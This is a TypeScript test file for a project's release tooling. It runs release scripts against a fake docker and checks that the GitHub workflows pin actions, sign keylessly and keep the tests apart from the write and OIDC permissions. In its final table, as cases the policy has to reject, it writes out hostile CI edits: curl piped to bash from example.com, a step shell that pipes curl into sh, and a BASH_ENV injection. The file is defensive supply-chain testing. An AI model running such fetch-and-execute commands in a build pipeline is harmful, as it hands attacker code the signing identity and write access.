// hack/release.sh, hack/release-bases.sh and hack/release-smoke.sh with a stand-in `docker` first on PATH (a fake:
// it builds, pushes and runs nothing, and answers from files the test writes), so the tests never build or pull an
// image even where Docker runs; `npx`, `npm` and `tsx` are stand-ins that fail and log where the publishing path must
// not run them. What is real: the scripts, the manifests build (--files) and sha256sum.
import { execFile } from 'node:child_process';
import {
  chmodSync,
  copyFileSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { expect } from 'chai';
import { parse } from 'yaml';
import * as policy from './release-policy.js';
import { releaseProblems, type Workflow as PolicyWorkflow } from './release-policy.js';

const run = promisify(execFile);
const root = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const version = (JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as { version: string }).version;
const FILES = policy.RELEASE_FILES.filter((f) => f !== 'checksums.txt');
type Failed = { code: number; stdout: string; stderr: string };
const failing = (p: Promise<{ stdout: string; stderr: string }>) =>
  p.then(
    (r) => ({ code: 0, ...r }),
    (e: Failed) => e,
  );

// The fake docker: `buildx version` succeeds where $FAKE/buildx exists; `buildx imagetools inspect REF` answers the
// digest $FAKE/digests lists for REF (or fails); `buildx build` writes $FAKE/pushed as the build's digest; `run`
// answers --version with $FAKE/version-line (fails for the platform named in $FAKE/broken), and the LICENSE probe with
// `true`; `image inspect` answers the last run's platform and $FAKE/label. Every call is logged to $FAKE/log.
const FAKE_DOCKER = `#!/usr/bin/env bash
echo "docker $*" >> "$FAKE/log"
case "$1" in
  buildx)
    case "$2" in
      version) [[ -f "$FAKE/buildx" ]] ;;
      imagetools) d="$(awk -v r="$4" '$1 == r { print $2 }' "$FAKE/digests")"; [[ -n "$d" ]] && echo "\\"$d\\"" ;;
      build) while [[ $# -gt 0 ]]; do [[ "$1" == --metadata-file ]] && printf '{"containerimage.digest":"%s"}' "$(cat "$FAKE/pushed")" > "$2"; shift; done ;;
      *) exit 1 ;;
    esac ;;
  run)
    platform=""; entry=""; prev=""
    for a in "$@"; do [[ "$prev" == --platform ]] && platform="$a"; [[ "$prev" == --entrypoint ]] && entry="$a"; prev="$a"; done
    echo "$platform" > "$FAKE/platform"
    if [[ -f "$FAKE/broken" && "$(cat "$FAKE/broken")" == "$platform" ]]; then echo "exec format error" >&2; exit 1; fi
    if [[ -n "$entry" ]]; then echo true; else cat "$FAKE/version-line"; fi ;;
  image)
    case "$*" in
      *Architecture*) cat "$FAKE/platform" ;;
      *licenses*) cat "$FAKE/label" ;;
    esac ;;
  *) exit 1 ;;
esac
`;
const FAILING_TOOL = (name: string) => `#!/bin/sh\necho "${name} CALLED: $*" >> "$FAKE/log"\nexit 97\n`;
const RUNTIME_PIN = /^ARG RUNTIME_IMAGE=(.*)$/m.exec(readFileSync(join(root, 'Dockerfile'), 'utf8'))![1]!;
const NODE_TAG = 'docker.io/library/node:24-bookworm';
const RUNTIME_TAG = 'gcr.io/distroless/nodejs24-debian12:nonroot';
const digestOf = (c: string) => `sha256:${c.repeat(64)}`;

describe('hack/release.sh, hack/release-bases.sh, hack/release-smoke.sh (a fake docker)', function () {
  this.timeout(60_000);
  let dir: string;
  let fake: string;
  let files: string;
  let noBuildx: { stdout: string; stderr: string };
  const envWith = (extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv => ({
    ...process.env,
    PATH: `${join(dir, 'bin')}:${process.env['PATH'] ?? ''}`,
    FAKE: fake,
    ...extra,
  });
  const log = () => (existsSync(join(fake, 'log')) ? readFileSync(join(fake, 'log'), 'utf8') : '');
  const fakeState = (state: { buildx: boolean; digests?: Record<string, string>; pushed?: string }) => {
    rmSync(fake, { recursive: true, force: true });
    mkdirSync(fake);
    if (state.buildx) writeFileSync(join(fake, 'buildx'), '');
    writeFileSync(
      join(fake, 'digests'),
      Object.entries(state.digests ?? {})
        .map(([r, d]) => `${r} ${d}\n`)
        .join(''),
    );
    writeFileSync(join(fake, 'pushed'), state.pushed ?? '');
  };
  /** A scratch tree with the release scripts, package.json, the Dockerfile with its build stages pinned (the digest the
   * repository cannot know), and the release files as the test job hands them over. */
  const scratchTree = () => {
    const tree = mkdtempSync(join(dir, 'tree-'));
    mkdirSync(join(tree, 'hack'));
    for (const f of ['release.sh', 'release-bases.sh']) copyFileSync(join(root, 'hack', f), join(tree, 'hack', f));
    copyFileSync(join(root, 'package.json'), join(tree, 'package.json'));
    writeFileSync(
      join(tree, 'Dockerfile'),
      readFileSync(join(root, 'Dockerfile'), 'utf8').replace(
        /^ARG NODE_IMAGE=.*$/m,
        `ARG NODE_IMAGE=docker.io/library/node@${digestOf('a')}`,
      ),
    );
    cpSync(files, join(tree, 'out'), { recursive: true });
    return tree;
  };
  const pinsResolve = { [NODE_TAG]: digestOf('a'), [RUNTIME_TAG]: RUNTIME_PIN.split('@')[1]! };
  const image = `ghcr.io/joinguard/joinguard:v${version}`;

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'joinguard-release-'));
    fake = join(dir, 'fake');
    mkdirSync(join(dir, 'bin'));
    writeFileSync(join(dir, 'bin', 'docker'), FAKE_DOCKER);
    chmodSync(join(dir, 'bin', 'docker'), 0o755);
    // The release files once, as the test job builds them (--files: the real manifests build).
    files = join(dir, 'files');
    fakeState({ buildx: true });
    await run('bash', [join(root, 'hack', 'release.sh'), version, '--files'], {
      cwd: root,
      env: envWith({ OUT_DIR: files }),
    });
    expect(log(), '--files calls no docker').to.equal('');
    // And with no mode and no buildx: the files, and the image not built (exit 0).
    fakeState({ buildx: false });
    noBuildx = await run('bash', [join(root, 'hack', 'release.sh'), version], {
      cwd: root,
      env: envWith({ OUT_DIR: join(dir, 'no-buildx') }),
    });
    // From here on npx, npm and tsx fail: nothing below may need them.
    for (const t of ['npx', 'npm', 'tsx']) {
      writeFileSync(join(dir, 'bin', t), FAILING_TOOL(t));
      chmodSync(join(dir, 'bin', t), 0o755);
    }
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('--files writes the components, metadata, observability files, the GitOps base as one file, and checksums', async () => {
    const sums = readFileSync(join(files, 'checksums.txt'), 'utf8');
    expect(
      sums
        .split('\n')
        .filter(Boolean)
        .map((l) => l.split(/\s+/)[1]),
    ).to.deep.equal(FILES);
    await run('sha256sum', ['-c', 'checksums.txt'], { cwd: files });
    expect(readFileSync(join(files, 'addon-components.yaml'), 'utf8')).to.include(`image: ${image}`);
    const { stdout } = await run('tar', ['-tzf', join(files, 'gitops.tar.gz')]);
    expect(stdout.split('\n')).to.include.members(['gitops/base/kustomization.yaml']);
    expect(stdout.split('\n').every((l) => l === '' || l.startsWith('gitops/'))).to.equal(true);
  });

  it('without buildx: the files, and says no image was built (exit 0); --push without buildx fails', async () => {
    const notBuilt = new RegExp(`no Docker buildx here: the image ${image.replace(/\./g, '\\.')} was NOT built`);
    expect(noBuildx.stderr).to.match(notBuilt);
    expect(readFileSync(join(dir, 'no-buildx', 'checksums.txt'), 'utf8')).to.equal(
      readFileSync(join(files, 'checksums.txt'), 'utf8'),
    );
    fakeState({ buildx: false });
    const r = await failing(
      run('bash', [join(scratchTree(), 'hack', 'release.sh'), version, '--push'], { env: envWith() }),
    );
    expect(r.code).to.equal(1);
    expect(r.stderr).to.match(notBuilt);
  });

  it("refuses a version other than package.json's, and a malformed one", async () => {
    fakeState({ buildx: false });
    const other = await failing(
      run('bash', [join(root, 'hack', 'release.sh'), '9.9.9'], { cwd: root, env: envWith() }),
    );
    expect(other.code).to.equal(1);
    expect(other.stderr).to.match(/not package\.json's version/);
    const bad = await failing(run('bash', [join(root, 'hack', 'release.sh'), 'v1'], { cwd: root, env: envWith() }));
    expect(bad.code).to.equal(64);
  });

  it('refuses to build from the Dockerfile as it is: the build stages named by tag alone (their digest is unknown here)', async () => {
    fakeState({ buildx: true, digests: pinsResolve });
    const out = join(dir, 'as-is');
    cpSync(files, out, { recursive: true });
    const r = await failing(
      run('bash', [join(root, 'hack', 'release.sh'), version, '--push'], { cwd: root, env: envWith({ OUT_DIR: out }) }),
    );
    expect(r.code).to.equal(1);
    expect(r.stderr).to.include(`NODE_IMAGE=${NODE_TAG} names its base by tag alone, not by digest`);
    expect(r.stderr).to.include('the digest to fill in is unknown here');
    expect(log()).not.to.include('buildx build');
    expect(existsSync(join(out, 'image-digest.txt'))).to.equal(false);
  });

  it('--push builds from the pins alone (no base build-arg), for amd64 and arm64, and writes the digest the registry serves', async () => {
    const pushed = digestOf('c');
    fakeState({ buildx: true, digests: { ...pinsResolve, [image]: pushed }, pushed });
    const tree = scratchTree();
    const { stdout } = await run('bash', [join(tree, 'hack', 'release.sh'), version, '--push'], { env: envWith() });
    expect(readFileSync(join(tree, 'out', 'image-digest.txt'), 'utf8').trim()).to.equal(pushed);
    const build = log()
      .split('\n')
      .find((l) => l.startsWith('docker buildx build'))!;
    expect(build).to.include('--platform linux/amd64,linux/arm64').and.include('--push').and.include('-f Dockerfile');
    expect(build).not.to.match(/NODE_IMAGE|RUNTIME_IMAGE/);
    expect(stdout).to.include(`RUNTIME_IMAGE=${RUNTIME_PIN}`);
    expect(log()).not.to.match(/(npx|npm|tsx) CALLED/);
  });

  it('fails on a digest mismatch: a pinned base its tag no longer resolves to, or a tag that does not resolve', async () => {
    fakeState({ buildx: true, digests: { ...pinsResolve, [RUNTIME_TAG]: digestOf('b') }, pushed: digestOf('c') });
    const r = await failing(
      run('bash', [join(scratchTree(), 'hack', 'release.sh'), version, '--push'], { env: envWith() }),
    );
    expect(r.code).to.equal(1);
    expect(r.stderr).to.include(
      `RUNTIME_IMAGE: digest mismatch: pinned ${RUNTIME_PIN.split('@')[1]}, ${RUNTIME_TAG} resolves to ${digestOf('b')} today`,
    );
    expect(log()).not.to.include('buildx build');
    fakeState({ buildx: true, digests: { [RUNTIME_TAG]: RUNTIME_PIN.split('@')[1]! } });
    const gone = await failing(
      run('bash', [join(root, 'hack', 'release-bases.sh'), join(scratchTree(), 'Dockerfile')], { env: envWith() }),
    );
    expect(gone.code).to.equal(1);
    expect(gone.stderr).to.include(`NODE_IMAGE: ${NODE_TAG} does not resolve here`);
  });

  it('fails on a digest mismatch: the registry serves another digest for the tag than the one pushed', async () => {
    fakeState({ buildx: true, digests: { ...pinsResolve, [image]: digestOf('d') }, pushed: digestOf('c') });
    const tree = scratchTree();
    const r = await failing(run('bash', [join(tree, 'hack', 'release.sh'), version, '--push'], { env: envWith() }));
    expect(r.code).to.equal(1);
    expect(r.stderr).to.include(
      `digest mismatch: pushed ${digestOf('c')}, the registry serves ${image} as ${digestOf('d')}`,
    );
    expect(existsSync(join(tree, 'out', 'image-digest.txt'))).to.equal(false);
  });

  it('--push refuses release files that differ from their checksums, or a set without the GitOps base', async () => {
    fakeState({ buildx: true, digests: pinsResolve, pushed: digestOf('c') });
    const tree = scratchTree();
    writeFileSync(join(tree, 'out', 'metadata.yaml'), 'changed after the test job\n');
    const r = await failing(run('bash', [join(tree, 'hack', 'release.sh'), version, '--push'], { env: envWith() }));
    expect(r.code).to.equal(1);
    expect(r.stderr).to.include('differ from their checksums.txt');
    const short = scratchTree();
    const sums = readFileSync(join(short, 'out', 'checksums.txt'), 'utf8');
    writeFileSync(join(short, 'out', 'checksums.txt'), sums.replace(/^.*gitops\.tar\.gz\n/m, ''));
    const s = await failing(run('bash', [join(short, 'hack', 'release.sh'), version, '--push'], { env: envWith() }));
    expect(s.code).to.equal(1);
    expect(s.stderr).to.include('checksums.txt lists');
    expect(log()).not.to.include('buildx build');
  });

  describe('hack/release-smoke.sh', () => {
    const digest = digestOf('e');
    let want: string;
    before(async () => {
      const commit = (await run('git', ['rev-parse', 'HEAD'], { cwd: root })).stdout.trim();
      want = `Version: v${version} (git commit: ${commit})`;
    });
    const smoke = () =>
      failing(run('bash', [join(root, 'hack', 'release-smoke.sh'), digest, version], { env: envWith() }));
    const answers = (line: string, label = 'Apache-2.0') => {
      fakeState({ buildx: true });
      writeFileSync(join(fake, 'version-line'), `${line}\n`);
      writeFileSync(join(fake, 'label'), `${label}\n`);
    };

    it('starts the pushed digest on linux/amd64 and linux/arm64, asks --version, and checks the license label and file', async () => {
      answers(want);
      const r = await smoke();
      expect(r.code, r.stderr).to.equal(0);
      const runs = log()
        .split('\n')
        .filter((l) => l.startsWith('docker run') && l.endsWith(`ghcr.io/joinguard/joinguard@${digest} --version`));
      expect(runs.map((l) => /--platform (\S+)/.exec(l)![1])).to.deep.equal(['linux/amd64', 'linux/arm64']);
      expect(runs.every((l) => l.includes('--read-only') && l.includes('--user 65532:65532'))).to.equal(true);
    });

    it('fails when arm64 does not start, when the version line is not this release, or the license label is missing', async () => {
      answers(want);
      writeFileSync(join(fake, 'broken'), 'linux/arm64\n');
      const arm = await smoke();
      expect(arm.code).to.equal(1);
      expect(arm.stderr).to.include('linux/arm64: ghcr.io/joinguard/joinguard@');
      answers('Version: v0.0.9 (git commit: )');
      const old = await smoke();
      expect(old.code).to.equal(1);
      expect(old.stderr).to.include(`linux/amd64: --version said 'Version: v0.0.9 (git commit: )', not '${want}'`);
      answers(want, '<no value>');
      const unlicensed = await smoke();
      expect(unlicensed.code).to.equal(1);
      expect(unlicensed.stderr).to.include('label org.opencontainers.image.licenses is');
    });
  });
});

describe('Dockerfile: the image recipe a release builds', () => {
  const dockerfile = readFileSync(join(root, 'Dockerfile'), 'utf8');
  it('pins the runtime base by digest, the tag it was taken for in a comment above; the build stages are still a tag (digest unknown here)', () => {
    expect(dockerfile).to.match(
      /^# tag: gcr\.io\/distroless\/nodejs24-debian12:nonroot\nARG RUNTIME_IMAGE=gcr\.io\/distroless\/nodejs24-debian12@sha256:[0-9a-f]{64}$/m,
    );
    // Filled in where a registry answers; until then hack/release.sh refuses to build (tested above).
    expect(dockerfile).to.match(
      /^# tag: docker\.io\/library\/node:24-bookworm\nARG NODE_IMAGE=docker\.io\/library\/node:24-bookworm$/m,
    );
    expect(dockerfile).to.include('ITS DIGEST IS UNKNOWN HERE');
  });
  it('carries the license: the LICENSE file copied in and the OCI label Apache-2.0 (package.json says the same)', () => {
    const runtime = dockerfile.slice(dockerfile.lastIndexOf('\nFROM '));
    expect(runtime).to.match(/^COPY --chown=0:0 LICENSE \.\/LICENSE$/m);
    expect(runtime).to.match(/^LABEL org\.opencontainers\.image\.licenses="Apache-2\.0"$/m);
    expect((JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as { license: string }).license).to.equal(
      'Apache-2.0',
    );
    expect(readFileSync(join(root, 'LICENSE'), 'utf8')).to.include('Apache License');
    expect(readFileSync(join(root, '.dockerignore'), 'utf8').split('\n')).not.to.include('LICENSE');
  });
});

// The workflows cannot run here (no GitHub, no Docker): what they say is checked instead.
describe('.github/workflows: the release supply chain', () => {
  const dir = join(root, '.github', 'workflows');
  const files = readdirSync(dir).filter((f) => f.endsWith('.yaml') || f.endsWith('.yml'));
  const text = (f: string) => readFileSync(join(dir, f), 'utf8');
  type Step = { uses?: string; run?: string; with?: Record<string, unknown> };
  type Workflow = {
    on: Record<string, unknown>;
    permissions?: unknown;
    jobs: Record<string, { permissions?: Record<string, string>; steps: Step[] }>;
  };
  const workflow = (f: string) => parse(text(f)) as Workflow;
  const steps = (f: string) => Object.values(workflow(f).jobs).flatMap((j) => j.steps);

  it('pins every action by a full commit SHA, with its tag in a comment', () => {
    const loose: string[] = [];
    for (const f of files) {
      for (const line of text(f)
        .split('\n')
        .filter((l) => /^\s*-?\s*uses:/.test(l))) {
        if (!/uses: [\w.-]+\/[\w.-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line.trim().replace(/^- /, '')))
          loose.push(`${f}: ${line.trim()}`);
      }
    }
    expect(files).to.include.members(['ci.yaml', 'release.yaml', 'security-scan.yaml']);
    expect(loose).to.deep.equal([]);
  });

  it('signs the image by digest and every release file keylessly (cosign, OIDC), and generates the release notes', () => {
    const release = workflow('release.yaml');
    expect(release.jobs['publish']!.permissions).to.include({ 'id-token': 'write' });
    const runs = steps('release.yaml')
      .map((s) => s.run ?? '')
      .join('\n');
    expect(steps('release.yaml').some((s) => s.uses?.startsWith('sigstore/cosign-installer@'))).to.equal(true);
    expect(runs).to.match(/cosign sign --yes "ghcr\.io\/joinguard\/joinguard@\$\(cat out\/image-digest\.txt\)"/);
    expect(runs).to.include('cosign sign-blob --yes --bundle');
    // Every file the release attaches is signed.
    const attached = /gh release create[\s\S]*$/.exec(runs)![0];
    for (const f of [...FILES, 'checksums.txt']) {
      expect(attached, f).to.include(`out/${f}`);
      expect(runs, `${f} signed`).to.match(new RegExp(`for f in [^;]*${f.replace('.', '\\.')}`));
    }
    expect(attached).to.include('--generate-notes').and.include('out/*.sigstore.json');
    expect(runs).not.to.match(/cosign .*--key/);
  });

  it('scans for vulnerabilities on a schedule, with least privilege', () => {
    const scan = workflow('security-scan.yaml');
    expect((scan.on['schedule'] as { cron: string }[])[0]!.cron).to.match(/^\S+ \S+ \* \* \S+$/);
    expect(scan.permissions).to.deep.equal({});
    const s = steps('security-scan.yaml');
    expect(
      s.filter((x) => x.uses?.startsWith('aquasecurity/trivy-action@')).map((x) => x.with?.['scan-type']),
    ).to.deep.equal(['fs', 'image']);
    expect(s.some((x) => /npm audit --omit=dev/.test(x.run ?? ''))).to.equal(true);
  });

  it('never leaves the checkout token on disk for later steps', () => {
    for (const f of files)
      for (const st of steps(f).filter((x) => x.uses?.startsWith('actions/checkout@')))
        expect(st.with?.['persist-credentials'], f).to.equal(false);
  });
});

// The release's two jobs: the tests never run where the write permissions and the signing identity are held. Every
// edit below is made on a scratch copy of .github/workflows/release.yaml as parsed (a fresh parse each time); the file
// itself is never changed.
describe('.github/workflows/release.yaml: the tests apart from the signing identity', () => {
  const release = () =>
    parse(readFileSync(join(root, '.github', 'workflows', 'release.yaml'), 'utf8')) as PolicyWorkflow;
  const publishSteps = (w: PolicyWorkflow) => w.jobs['publish']!.steps!;
  const stepUsing = (w: PolicyWorkflow, action: string) =>
    publishSteps(w).findIndex((s) => s.uses?.startsWith(`${action}@`));
  const CHECKOUT = { uses: 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1' };
  const TESTS = { name: 'tests', run: 'bash .ci/run' };
  const SIGN = { run: 'cosign sign --yes "ghcr.io/joinguard/joinguard@$(cat out/image-digest.txt)"' };
  const WRITE = { contents: 'write', packages: 'write', 'id-token': 'write' };
  const twoJobs = (): PolicyWorkflow => ({
    permissions: { contents: 'read' },
    jobs: {
      test: { permissions: { contents: 'read' }, steps: [CHECKOUT, TESTS] },
      publish: { needs: 'test', permissions: { ...WRITE }, steps: [CHECKOUT, SIGN] },
    },
  });

  it('keeps the rule: a read-only test job; one publishing job that needs it and runs only the allow-list', () => {
    expect(releaseProblems(release())).to.deep.equal([]);
    const r = release();
    expect(r.jobs['test']!.permissions).to.deep.equal({ contents: 'read' });
    expect(r.jobs['publish']!.needs).to.equal('test');
    // Every listed command is run (the list holds nothing the workflow does not need).
    const lines = publishSteps(r).flatMap((s) => policy.commandLines(s.run ?? ''));
    expect([...new Set(lines)].sort()).to.deep.equal([...policy.PUBLISH_COMMANDS].sort());
  });

  it("sets up the Node the tests ran on: the node devDependency's exact version from package-lock.json", () => {
    const lock = JSON.parse(readFileSync(join(root, 'package-lock.json'), 'utf8')) as {
      packages: Record<string, { version: string }>;
    };
    const node = publishSteps(release()).find((s) => s.uses?.startsWith('actions/setup-node@'))!;
    expect(node.with).to.deep.include({
      'node-version': lock.packages['node_modules/node']!.version,
      'package-manager-cache': false,
    });
  });

  it('smoke-tests the pushed digest on amd64 and arm64 (QEMU) before anything is signed or attested', () => {
    const runs = publishSteps(release()).map((s) => s.run ?? s.uses ?? '');
    const at = (re: RegExp) => runs.findIndex((r) => re.test(r));
    const smoke = at(/^bash hack\/release-smoke\.sh "\$\(cat out\/image-digest\.txt\)"/);
    expect(at(/^docker\/setup-qemu-action@/), 'QEMU first').to.be.within(0, smoke);
    expect(at(/^bash hack\/release\.sh .* --push$/), 'pushed first').to.be.within(0, smoke);
    expect(smoke).to.be.below(at(/^cosign sign --yes/));
    expect(smoke).to.be.below(at(/cosign sign-blob/));
    expect(smoke).to.be.below(at(/^actions\/attest-build-provenance@/));
  });

  it('fails the one-job release it replaced: the tests ran beside id-token, packages and contents write', () => {
    const oneJob: PolicyWorkflow = {
      permissions: { contents: 'read' },
      jobs: { release: { permissions: { ...WRITE }, steps: [CHECKOUT, TESTS, SIGN] } },
    };
    expect(releaseProblems(oneJob)).to.include(
      'job release runs the tests and holds write: contents, packages, id-token',
    );
  });

  it('fails a test job that gets a write permission, its own or inherited', () => {
    const own = twoJobs();
    own.jobs['test']!.permissions = { contents: 'read', packages: 'write' };
    expect(releaseProblems(own)).to.include('job test runs the tests and holds write: packages');
    const inherited = twoJobs();
    inherited.permissions = 'write-all';
    delete inherited.jobs['test']!.permissions;
    expect(releaseProblems(inherited)).to.include('job test runs the tests and holds write: *');
    const unstated = twoJobs();
    delete unstated.permissions;
    delete unstated.jobs['test']!.permissions;
    expect(releaseProblems(unstated)[0]).to.match(
      /^job test runs the tests and holds write: \* \(no permissions stated/,
    );
  });

  // Each case: the edit, on a scratch copy of the workflow, and a problem it must raise. Each edit alone fails.
  const ATTEST = 'actions/attest-build-provenance';
  const cases: [string, (w: PolicyWorkflow) => void, string][] = [
    [
      'curl | bash added to a run step',
      (w) =>
        (publishSteps(w)[stepUsing(w, 'sigstore/cosign-installer') + 1]!.run +=
          '\ncurl -sSfL https://example.com/i.sh | bash'),
      'job publish runs a command not on the allow-list: "curl -sSfL https://example.com/i.sh | bash"',
    ],
    [
      'npx -y some-tool@latest added to a run step',
      (w) => (publishSteps(w)[stepUsing(w, 'sigstore/cosign-installer') + 1]!.run += '\nnpx -y some-tool@latest'),
      'job publish runs development-dependency code while holding id-token: "npx -y some-tool@latest"',
    ],
    [
      'a tsx step (the manifests built under OIDC)',
      (w) => publishSteps(w).push({ name: 'manifests', run: 'npx tsx manifests/build.ts out' }),
      'job publish runs development-dependency code while holding id-token: "npx tsx manifests/build.ts out"',
    ],
    [
      'an esbuild step',
      (w) => publishSteps(w).push({ run: './node_modules/.bin/esbuild cmd/joinguard.ts --bundle' }),
      'job publish runs development-dependency code while holding id-token: "./node_modules/.bin/esbuild cmd/joinguard.ts --bundle"',
    ],
    [
      'npm ci with install scripts',
      (w) => publishSteps(w).push({ run: 'npm ci --no-audit' }),
      'job publish runs development-dependency code while holding id-token: "npm ci --no-audit"',
    ],
    [
      'npm ci --ignore-scripts (the devDependencies installed, then run)',
      (w) => publishSteps(w).push({ run: 'npm ci --ignore-scripts --no-audit --no-fund' }),
      'job publish runs a command not on the allow-list: "npm ci --ignore-scripts --no-audit --no-fund"',
    ],
    [
      'npm rebuild node',
      (w) => publishSteps(w).push({ run: 'npm ci --ignore-scripts && npm rebuild node && npx node --version' }),
      'job publish runs "npm rebuild node": a Node binary outside the lockfile\'s integrity',
    ],
    [
      'setup-node removed',
      (w) => publishSteps(w).splice(stepUsing(w, 'actions/setup-node'), 1),
      'job publish has no actions/setup-node: Node must come from it',
    ],
    [
      'setup-node on a range, not an exact 24.x',
      (w) => (publishSteps(w)[stepUsing(w, 'actions/setup-node')]!.with!['node-version'] = '24.x'),
      'job publish sets up Node 24.x: not an exact 24.x.y',
    ],
    [
      'attestation removed',
      (w) => publishSteps(w).splice(stepUsing(w, ATTEST), 1),
      'job publish does not attest out/addon-components.yaml',
    ],
    [
      'the GitOps base left out of the attestation',
      (w) => {
        const a = publishSteps(w)[stepUsing(w, ATTEST)]!;
        a.with!['subject-path'] = String(a.with!['subject-path']).replace('out/gitops.tar.gz\n', '');
      },
      'job publish does not attest out/gitops.tar.gz',
    ],
    [
      'the GitOps base not attached',
      (w) => {
        const s = publishSteps(w).find((x) => x.run?.includes('gh release create'))!;
        s.run = s.run!.replace(' out/gitops.tar.gz', '');
      },
      'job publish does not attach out/gitops.tar.gz to the release',
    ],
    [
      'the release files not handed over by the test job',
      (w) =>
        (w.jobs['test']!.steps = w.jobs['test']!.steps!.filter((s) => !s.uses?.startsWith('actions/upload-artifact@'))),
      'job publish does not take the release files from a job it needs (upload-artifact/download-artifact)',
    ],
    [
      'BASH_ENV set on a step',
      (w) => (publishSteps(w).find((x) => x.run?.includes('release.sh'))!.env = { BASH_ENV: '/tmp/x' }),
      'job publish sets env BASH_ENV: not on the allow-list',
    ],
    [
      'a shell of its own on a step',
      (w) => (publishSteps(w).find((x) => x.run?.includes('release.sh'))!.shell = 'bash -c "curl -s x | sh" {0}'),
      'job publish sets a shell (bash -c "curl -s x | sh" {0}): image from the pinned bases, pushed, its digest checked (hack/release.sh --push)',
    ],
    [
      'a second job holding id-token that runs tsx',
      (w) =>
        (w.jobs['docs'] = {
          permissions: { 'id-token': 'write' },
          steps: [CHECKOUT, { run: 'npm ci && npx tsx manifests/build.ts out' }],
        }),
      'job docs runs development-dependency code while holding id-token: "npm ci && npx tsx manifests/build.ts out"',
    ],
    [
      'runs npm test',
      (w) => publishSteps(w).push({ run: 'npm test' }),
      'job publish runs the tests and holds write: contents, packages, id-token, attestations',
    ],
    [
      'runs .ci/run',
      (w) => publishSteps(w).push(TESTS),
      'job publish runs the tests and holds write: contents, packages, id-token, attestations',
    ],
    [
      'does not need the tests',
      (w) => delete w.jobs['publish']!.needs,
      'job publish holds write but does not need test',
    ],
    [
      'sets up Go',
      (w) => publishSteps(w).push({ uses: 'actions/setup-go@b7ad1dad31e06c5925ef5d2fc7ad053ef454303e' }),
      'job publish uses actions/setup-go: not needed to build or sign',
    ],
    [
      'builds the test control plane',
      (w) => publishSteps(w).push({ name: 'testenv', run: 'bash hack/testenv/build.sh --all' }),
      'job publish installs or builds test tooling: testenv',
    ],
    [
      'shares the write with a second job',
      (w) => (w.jobs['notes'] = { needs: 'test', permissions: { contents: 'write' }, steps: [] }),
      'one job must hold the write and OIDC permissions; 2 do (publish, notes)',
    ],
  ];
  for (const [what, edit, problem] of cases)
    it(`fails the workflow edited so: ${what}`, () => {
      const w = release();
      expect(releaseProblems(w), 'the scratch copy passes before the edit').to.deep.equal([]);
      edit(w);
      expect(releaseProblems(w)).to.include(problem);
    });
});
